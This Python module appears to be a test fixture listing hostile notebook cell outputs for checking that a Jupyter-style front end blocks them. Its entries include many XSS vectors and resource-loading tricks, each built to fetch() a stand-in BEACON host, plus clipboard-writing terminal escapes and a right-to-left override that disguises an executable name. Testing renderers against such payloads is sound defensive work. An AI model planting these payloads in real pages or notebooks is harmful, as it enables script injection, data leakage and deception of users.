"""What a hostile box may try on the page that shows it. ``BEACON`` is the address of somebody else's server."""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Hostile:
    """One attempt: the code of a cell.

    Displayed as it is, it makes the page reach ``BEACON/<name>``, at once or when it is clicked. Or, where it acts on
    other front ends than JupyterLab, the notebook's outputs hold ``carries``.
    """

    name: str
    code: str
    carries: str = ""


def html(name: str, source: str) -> Hostile:
    source = source.replace("URL", f"BEACON/{name}")
    return Hostile(name, f"from IPython.display import HTML\nHTML({source!r})")


def markdown(name: str, source: str) -> Hostile:
    source = source.replace("URL", f"BEACON/{name}")
    return Hostile(name, f"from IPython.display import Markdown\nMarkdown({source!r})")


def bundle(name: str, mime: str, value: str) -> Hostile:
    value = value.replace("URL", f"BEACON/{name}")
    return Hostile(name, f"from IPython.display import display\ndisplay({{{mime!r}: {value}}}, raw=True)")


FETCH = "document.documentElement.dataset.ran='URL';fetch('URL')"
"""A script that shows that it ran even where it can reach nothing."""
VICTIM = "from IPython.display import display\n_ = display('honest', display_id='victim')"
"""Run by the page's own kernel, before the hostile cells."""

SET = [
    # -- Markdown, formulas, figures ----------------------------------------------------------------------------------
    markdown("md-html", f"hello <img src=x:x onerror=\"{FETCH}\">"),
    markdown("md-image", "![x](URL)"),
    markdown("md-reference", "![x][1]\n\n[1]: URL"),
    markdown("md-link", "[go](URL)"),
    markdown("md-math", "$\\href{URL}{x}$"),
    html("mathjax", "<p>$\\href{URL}{x}$</p>"),
    html("mathjax-process", "<p class=mathjax_process>$\\href{URL}{x}$</p>"),
    bundle("latex", "text/latex", "r'$\\href{URL}{x}$'"),
    bundle("vega", "application/vnd.vegalite.v5+json",
           "{'data': {'url': 'URL'}, 'mark': 'point', 'encoding': {}}"),
    Hostile("table-cell", "from IPython.display import HTML\n"
            "HTML('<table border=1 class=dataframe><tr><td><img src=\"BEACON/table-cell\"></table>')"),
    Hostile("hijack", "from IPython.display import HTML, update_display\n"
            "update_display(HTML('<img src=\"BEACON/hijack\">'), display_id='victim')"),
    # -- script -------------------------------------------------------------------------------------------------------
    html("script", f"<script>{FETCH}</script>"),
    html("onerror", f"<img src=x:x onerror=\"{FETCH}\">"),
    html("ontoggle", f"<details open ontoggle=\"{FETCH}\">x</details>"),
    html("source-onerror", f"<video><source src=x:x onerror=\"{FETCH}\"></video>"),
    html("svg-script", f"<svg><script>{FETCH}</script></svg>"),
    html("svg-animation", f"<svg><animate attributeName=x dur=1s onbegin=\"{FETCH}\"></svg>"),
    html("autofocus", f"<div tabindex=0 id=af onfocus=\"{FETCH}\">x</div><img src=x:x onerror=af.focus()>"),
    html("javascript-link", f"<a href=\"javascript:{FETCH}\" target=_self>click</a>"),
    html("javascript-form", f"<form action=\"javascript:{FETCH}\"><button>click</button></form>"),
    html("button", f"<button onclick=\"{FETCH}\">click</button>"),
    html("math-style", f"<math><style><img src=x:x onerror=\"{FETCH}\"></style></math>"),
    html("svg-style", f"<svg><style><img src=x:x onerror=\"{FETCH}\"></style></svg>"),
    html("noscript", f"<noscript><p title=\"</noscript><img src=x:x onerror={FETCH}>\"></noscript>"),
    html("comment", f"<!--><img src=x:x onerror=\"{FETCH}\">-->"),
    html("nested", f"<table><caption><form><table><td></form><form><img src=x:x onerror=\"{FETCH}\"></table></table>"),
    html("with-sheet", f"<style>b{{color:red}}</style><b>x</b><script>{FETCH}</script>"),
    bundle("javascript", "application/javascript", f"\"{FETCH}\""),
    html("refresh", "<style>i{}</style><i>x</i><meta http-equiv=refresh content=\"0;url=URL\">"),
    # -- frames and plugins -------------------------------------------------------------------------------------------
    html("iframe", "<iframe src=\"URL\"></iframe>"),
    html("iframe-srcdoc", f"<iframe srcdoc=\"<script>{FETCH}</script>\"></iframe>"),
    html("iframe-data", f"<iframe src=\"data:text/html,<script>{FETCH}</script>\"></iframe>"),
    html("iframe-script", f"<iframe src=\"javascript:parent.{FETCH}\"></iframe>"),
    html("object", "<object data=\"URL\"></object>"),
    html("embed", "<embed src=\"URL\">"),
    # -- loading ------------------------------------------------------------------------------------------------------
    html("image", "<img src=\"URL\">"),
    html("srcset", "<img srcset=\"URL 1x\">"),
    html("picture", "<picture><source srcset=\"URL\"><img></picture>"),
    html("svg-image", "<svg><image href=\"URL\" width=9 height=9 /></svg>"),
    html("video", "<video poster=\"URL\"></video>"),
    html("audio", "<audio src=\"URL\" autoplay></audio>"),
    html("input-image", "<input type=image src=\"URL\">"),
    html("background", "<table background=\"URL\"><tr><td>x</table>"),
    html("style-url", "<p style=\"background-image:url(URL)\">x</p>"),
    html("style-escape", "<p style=\"background-image:u\\72l(URL)\">x</p>"),
    html("sheet-url", "<style>.sheet-url{background:url(URL)}</style><p class=sheet-url>x</p>"),
    html("sheet-import", "<style>@import url(URL);</style><p>x</p>"),
    html("sheet-font", "<style>@font-face{font-family:leak;src:url(URL)}</style><p style=\"font-family:leak\">x</p>"),
    html("sheet-content", "<style>.sheet-content:after{content:url(URL)}</style><p class=sheet-content>x</p>"),
    html("link-sheet", "<link rel=stylesheet href=\"URL\">"),
    html("link-preload", "<style>i{}</style><link rel=preload as=image href=\"URL\"><i>x</i>"),
    html("link-prefetch", "<style>i{}</style><link rel=prefetch href=\"URL\"><i>x</i>"),
    html("template", "<template shadowrootmode=open></template><div><img src=\"URL\"></div>"),
    # -- going elsewhere ----------------------------------------------------------------------------------------------
    html("form", "<form action=\"URL\"><button>go</button></form>"),
    html("link-top", "<a href=\"URL\" target=_top>go</a>"),
    html("ping", "<a href=\"URL-target\" ping=\"URL\">go</a>"),
    html("base", "<base href=\"BEACON/\"><img src=\"base\">"),
    # -- other front ends, and terminals ------------------------------------------------------------------------------
    Hostile("clipboard", "print('\\x1b]52;c;ZXZpbA==\\x07')", "\x1b]52"),
    Hostile("terminal-link", "print('\\x1b]8;;http://example.org\\x07x\\x1b]8;;\\x07')", "\x1b]8"),
    Hostile("traceback-link", "raise ValueError('<a href=\"command:evil\">x</a>')", "<a href"),
    Hostile("traceback-terminal", "raise ValueError('\\x1b]52;c;ZXZpbA==\\x07')", "\x1b]52"),
    Hostile("direction", "print('invoice\\u202efdp.exe')", "\u202e"),
    Hostile("widget", "from IPython.display import display\n"
            "display({'application/vnd.jupyter.widget-view+json': {'model_id': 'x', 'version_major': 2}}, raw=True)",
            "widget-view"),
]  # fmt: skip
